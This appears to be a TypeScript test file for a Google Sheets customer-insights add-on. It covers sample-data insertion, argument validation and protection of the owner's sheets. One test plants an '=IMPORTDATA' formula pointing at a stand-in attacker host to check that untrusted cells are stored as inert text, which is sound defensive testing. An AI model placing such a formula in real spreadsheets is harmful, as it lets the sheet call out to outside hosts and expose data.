// The sidebar's server functions through the fake: argument validation, plain-data answers.
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import * as main from '../../../src/gas/main';
import { cellInput } from '../../../src/gas/write-block';
import { fmt, TEXTS } from '../../../src/sidebar/i18n';
import { type Installed, installFake, SAMPLE_UPLOAD, snapshot } from './fixture';

let env: Installed;
afterEach(() => env?.uninstall());

const plain = (value: unknown) => expect(JSON.parse(JSON.stringify(value))).toEqual(value);

describe('with the sample workbook', () => {
  beforeEach(() => {
    env = installFake();
    const result = main.insertSample(SAMPLE_UPLOAD);
    expect(result).toEqual({
      status: 'inserted',
      sheets: ['Customers', 'Purchases', 'Feedback'],
      kept: [],
      sampleDate: '2026-06-30',
    });
  });

  it('getOverview answers plain data', () => {
    const response = main.getOverview(null);
    expect(response.ok).toBe(true);
    if (!response.ok) return;
    expect(response).toMatchObject({
      language: 'en',
      purchasesSheet: 'Purchases',
      customerSheet: 'Customers',
    });
    expect(response.overview.asOf).toBe('2026-06-30');
    expect(response.overview.customers).toBeGreaterThan(50);
    plain(response);
  });

  it('getSelectedCustomer finds the customer of the selected row on any sheet with a customer column', () => {
    const { fake } = env;
    fake.setActiveRange('Customers', 'C6');
    expect(main.getSelectedCustomer()).toEqual({
      sheet: 'Customers',
      row: 6,
      key: 'ryan patel',
      label: 'Ryan Patel',
    });
    fake.setActiveRange('Customers', 'A1');
    expect(main.getSelectedCustomer()).toBeNull();
    fake.setActiveRange('Feedback', 'E3');
    expect(main.getSelectedCustomer()).toMatchObject({ sheet: 'Feedback', key: 'ryan patel' });
    main.analyzeCustomers();
    fake.setActiveRange('Insights', 'D2');
    expect(main.getSelectedCustomer()).toMatchObject({ sheet: 'Insights', row: 2, key: '吴敏' });
    fake.setActiveRange('Summary', 'A5');
    expect(main.getSelectedCustomer()).toBeNull();
    fake.spreadsheet.addSheet('Calls', [
      ['When', 'Client', 'Notes'],
      ['today', 'Lily Chen', 'called'],
    ]);
    fake.setActiveRange('Calls', 'C2');
    expect(main.getSelectedCustomer()).toMatchObject({ sheet: 'Calls', key: 'lily chen' });
  });

  it('Analyze writes the card\'s next step for an open complaint in the Insights "Next step" column', () => {
    main.analyzeCustomers();
    const values = env.fake.values('Insights');
    const row = values.find((r) => r[0] === 'Ryan Patel')!;
    expect(row[values[0]!.indexOf('Next step')]).toBe('Answer the open complaint first');
    expect(main.getCustomerCard({ key: 'Ryan Patel' }).card).toMatchObject({ nextStep: 'complaint' });
    // Customers without one keep the step of their situation.
    const steps = values.slice(1).map((r) => r[values[0]!.indexOf('Next step')]);
    expect(steps.filter((s) => s === 'Answer the open complaint first').length).toBeLessThan(3);
    expect(new Set(steps).size).toBeGreaterThan(3);
  });

  for (const [locale, title] of [
    ['zh_CN', '先处理未解决的投诉'],
    ['zh_TW', '先處理未解決的投訴'],
  ] as const)
    it(`the same in ${locale}`, () => {
      env.uninstall();
      env = installFake({ locale });
      main.insertSample(SAMPLE_UPLOAD);
      main.analyzeCustomers();
      const sheet =
        env.fake.spreadsheet.sheetNames().find((n) => n !== 'Insights' && /洞察|Insights/.test(n)) ??
        'Insights';
      const values = env.fake.values(sheet);
      const row = values.find((r) => r[0] === 'Ryan Patel')!;
      expect(row).toContain(title);
    });

  it('getCustomerCard answers the card, complaints first', () => {
    const { card, language } = main.getCustomerCard({ key: 'Ryan Patel' });
    expect(language).toBe('en');
    expect(card).toMatchObject({ label: 'Ryan Patel', nextStep: 'complaint', openComplaints: 1 });
    expect(card!.profile!.email).toBe('ryan.patel@example.com');
    expect(card!.history.length).toBeGreaterThan(3);
    plain(card);
    expect(main.getCustomerCard({ key: 'Nobody at all' }).card).toBeNull();
  });

  it('validates every argument with zod', () => {
    expect(() => main.getCustomerCard({})).toThrow(/Invalid request — key/);
    expect(() => main.getCustomerCard({ key: 'a', more: 1 })).toThrow(/Invalid request/);
    expect(() => main.getCustomerCard('Ryan Patel')).toThrow(/Invalid request/);
    expect(() => main.getCustomerCard({ key: 'x'.repeat(1001) })).toThrow(/Invalid request — key/);
    expect(() => main.getOverview({ sneaky: true })).toThrow(/Invalid request/);
    expect(() => main.getColumnSetup([1])).toThrow(/Invalid request/);
    expect(() => main.insertSample({ ...SAMPLE_UPLOAD, sheets: [] })).toThrow(
      /Invalid sample workbook — sheets/,
    );
  });

  it('saves a valid column setup and refuses an invalid one without storing it', () => {
    const view = main.getColumnSetup();
    expect(view.source).toEqual({ purchases: 'detected', customers: 'detected', feedback: 'detected' });
    // Inserting the sample never fixes the owner's analysis date.
    expect(view.asOf).toBeNull();
    expect(view.sheets.map((s) => s.name)).toEqual(['Sheet1', 'Customers', 'Purchases', 'Feedback']);
    expect(view.sheets[2]!.rows[0]).toEqual(['Customer', 'Date', 'Amount', 'Product']);
    plain(view);
    const setup = { purchases: view.purchases, customers: null, feedback: view.feedback, asOf: null };
    const saved = main.saveColumnSetup(setup);
    expect(saved.source).toEqual({ purchases: 'saved', customers: 'off', feedback: 'saved' });
    expect(saved.asOf).toBeNull();
    expect(() => main.saveColumnSetup({ ...setup, purchases: { ...view.purchases, sheet: 'Nope' } })).toThrow(
      /no sheet "Nope"/,
    );
    const outside = { ...view.purchases!, columns: { ...view.purchases!.columns, amount: 40 } };
    expect(() => main.saveColumnSetup({ ...setup, purchases: outside })).toThrow(/purchases.amount/);
    expect(() => main.saveColumnSetup({ ...setup, asOf: 'tomorrow' })).toThrow(/asOf/);
    expect(main.getColumnSetup().source.customers).toBe('off');
    expect(main.resetColumnSetup().source).toEqual({
      purchases: 'detected',
      customers: 'detected',
      feedback: 'detected',
    });
  });

  it('analyzeFromSidebar writes the sheets and says what it wrote', () => {
    const result = main.analyzeFromSidebar();
    expect(result).toMatchObject({
      ok: true,
      asOf: '2026-06-30',
      sheets: { insights: 'Insights', summary: 'Summary', dataIssues: 'Data issues' },
    });
    plain(result);
  });
});

describe('insertSample', () => {
  it('renames clashing sheets and their formula references, and writes only its own functions as formulas', () => {
    env = installFake();
    const { fake } = env;
    fake.spreadsheet.addSheet('Purchases', [['mine']]);
    const upload = structuredClone(SAMPLE_UPLOAD);
    upload.sheets[0]!.rows[2]![5] = '=IMPORTDATA("https://evil.example")';
    // Beside the owner's own data, the first insertion asks first (see below).
    main.insertSample(upload, { replace: true });
    expect(fake.values('Purchases')).toEqual([['mine']]);
    const customers = fake.spreadsheet.sheet('Customers');
    expect(customers.formulaCells().map((f) => f.formula)).toContain(
      "=LIFECYCLE_STAGE(A2:A, 'Purchases (Regulars)'!A2:D, $M$2)",
    );
    expect(customers.formulaCells().every((f) => !f.formula.includes('IMPORTDATA'))).toBe(true);
    expect(fake.values('Customers')[2]![5]).toBe('=IMPORTDATA("https://evil.example")');
    const purchases = fake.values('Purchases (Regulars)');
    expect(purchases.flat()).toContain('2025/6/24');
    expect(purchases.flat()).toContain('¥436.00');
    expect(fake.spreadsheet.sheet('Purchases (Regulars)').cell(2, 2).numberFormat).toBe('yyyy-mm-dd');
    main.insertSample(upload);
    expect(fake.spreadsheet.sheetNames()).toEqual([
      'Sheet1',
      'Purchases',
      'Customers',
      'Purchases (Regulars)',
      'Feedback',
    ]);
  });
});

describe('insertSample never clears the owner’s data', () => {
  it('never sets the owner’s analysis date', () => {
    env = installFake();
    main.insertSample(SAMPLE_UPLOAD);
    expect(PropertiesService.getDocumentProperties().getProperty('regulars.columnSetup')).toBeNull();
  });

  it('run again, changes nothing until asked; then replaces only the sample sheets the owner did not edit', () => {
    env = installFake();
    const { fake } = env;
    main.insertSample(SAMPLE_UPLOAD);
    fake.spreadsheet
      .sheet('Purchases')
      .api.appendRow(['My customer', new Date('2026-06-29T00:00:00+08:00'), 88, 'Tea']);
    // An edit undone leaves a sheet untouched: its values and formulas match what was written.
    const email = fake.values('Customers')[2]![1];
    fake.spreadsheet.sheet('Customers').api.getRange(3, 2).setValue('changed@example.com');
    fake.spreadsheet.sheet('Customers').api.getRange(3, 2).setValue(email);
    const before = ['Customers', 'Purchases', 'Feedback'].map((n) => snapshot(fake, n));
    expect(main.insertSample(SAMPLE_UPLOAD)).toEqual({
      status: 'confirm',
      replace: ['Customers', 'Feedback'],
      kept: ['Purchases'],
    });
    expect(['Customers', 'Purchases', 'Feedback'].map((n) => snapshot(fake, n))).toEqual(before);
    expect(main.insertSample(SAMPLE_UPLOAD, { replace: true })).toEqual({
      status: 'inserted',
      sheets: ['Customers', 'Feedback'],
      kept: ['Purchases'],
      sampleDate: '2026-06-30',
    });
    expect(snapshot(fake, 'Purchases')).toEqual(before[1]);
    expect(fake.values('Purchases').at(-1)![0]).toBe('My customer');
    expect(fake.spreadsheet.sheetNames()).toEqual(['Sheet1', 'Customers', 'Purchases', 'Feedback']);
  });

  it('a renamed or copied sample sheet is the owner’s: a fresh one is written beside it', () => {
    env = installFake();
    const { fake } = env;
    main.insertSample(SAMPLE_UPLOAD);
    fake.spreadsheet.sheet('Purchases').setName('Purchases 2025');
    fake.spreadsheet.sheet('Customers').api.copyTo(fake.spreadsheet.api);
    const before = ['Purchases 2025', 'Copy of Customers'].map((n) => snapshot(fake, n));
    expect(main.insertSample(SAMPLE_UPLOAD)).toEqual({
      status: 'confirm',
      replace: ['Customers', 'Feedback'],
      kept: [],
    });
    const result = main.insertSample(SAMPLE_UPLOAD, { replace: true });
    expect(result).toMatchObject({ status: 'inserted', sheets: ['Customers', 'Purchases', 'Feedback'] });
    expect(['Purchases 2025', 'Copy of Customers'].map((n) => snapshot(fake, n))).toEqual(before);
  });

  it('refuses options other than { replace: true }', () => {
    env = installFake();
    expect(() => main.insertSample(SAMPLE_UPLOAD, { replace: 'yes' })).toThrow(/Invalid sample request/);
    expect(() => main.insertSample(SAMPLE_UPLOAD, 'replace')).toThrow(/Invalid sample request/);
  });
});

describe('cellInput', () => {
  it('marks every non-empty string as text and leaves other values alone', () => {
    expect(cellInput('=1+2')).toBe("'=1+2");
    expect(cellInput("'x")).toBe("''x");
    expect(cellInput('Ann')).toBe("'Ann");
    expect(cellInput('')).toBe('');
    expect(cellInput(null)).toBe('');
    expect(cellInput(12)).toBe(12);
    expect(cellInput(false)).toBe(false);
    const date = new Date(0);
    expect(cellInput(date)).toBe(date);
    expect((cellInput('x'.repeat(60_000)) as string).length).toBe(50_001);
  });
});

describe('Insert sample data beside the owner’s own data (new-owner trial)', () => {
  it('the first insertion says which sheets it adds and asks, changing nothing until the owner says yes', () => {
    env = installFake();
    const { fake } = env;
    fake.spreadsheet.addSheet('orders_2024', [
      ['Name', 'Email', 'Created at', 'Total'],
      ['#1001', 'ann@example.com', '2024-03-01', 40],
    ]);
    fake.spreadsheet.addSheet('Insights (preview)', [['=CUSTOMER_INSIGHTS(orders_2024!A1:D)']]);
    const before = fake.spreadsheet.sheetNames();
    const asked = main.insertSample(SAMPLE_UPLOAD);
    expect(asked).toEqual({
      status: 'confirm',
      add: ['Customers', 'Purchases', 'Feedback'],
      replace: [],
      kept: [],
    });
    expect(fake.spreadsheet.sheetNames()).toEqual(before);
    const words = (['en', 'zh-CN', 'zh-TW'] as const).map((l) =>
      fmt(TEXTS[l].sampleAdd, { sheets: (asked as { add: string[] }).add.join(', ') }),
    );
    expect(words[0]).toBe(
      'This workbook has your own data. Inserting the sample adds these sheets beside it: Customers, Purchases, Feedback. Your sheets are not changed.',
    );
    expect(words[1]).toContain('Customers, Purchases, Feedback');
    expect(words[2]).toContain('Customers, Purchases, Feedback');
    expect(main.insertSample(SAMPLE_UPLOAD, { replace: true })).toEqual({
      status: 'inserted',
      sheets: ['Customers', 'Purchases', 'Feedback'],
      kept: [],
      sampleDate: '2026-06-30',
    });
    expect(fake.values('orders_2024')[1]![1]).toBe('ann@example.com');
  });

  it('an empty workbook gets the sample at once', () => {
    env = installFake();
    expect(main.insertSample(SAMPLE_UPLOAD)).toMatchObject({ status: 'inserted', kept: [] });
  });

  it('the sample’s formulas computing their results is not an edit: "kept as you edited" names only real edits', () => {
    env = installFake();
    const { fake } = env;
    main.insertSample(SAMPLE_UPLOAD);
    // Sheets computes the column formulas after the sheet is written: their results spill below them.
    const customers = fake.spreadsheet.sheet('Customers').api;
    const rows = fake.values('Customers').length;
    for (let column = 6; column <= 12; column++)
      for (let row = 3; row <= rows; row++) customers.getRange(row, column).setValue(`result ${row}`);
    expect(main.insertSample(SAMPLE_UPLOAD)).toEqual({
      status: 'confirm',
      replace: ['Customers', 'Purchases', 'Feedback'],
      kept: [],
    });
    // A real edit still counts.
    customers.getRange(3, 2).setValue('changed@example.com');
    expect(main.insertSample(SAMPLE_UPLOAD)).toMatchObject({ kept: ['Customers'] });
  });
});
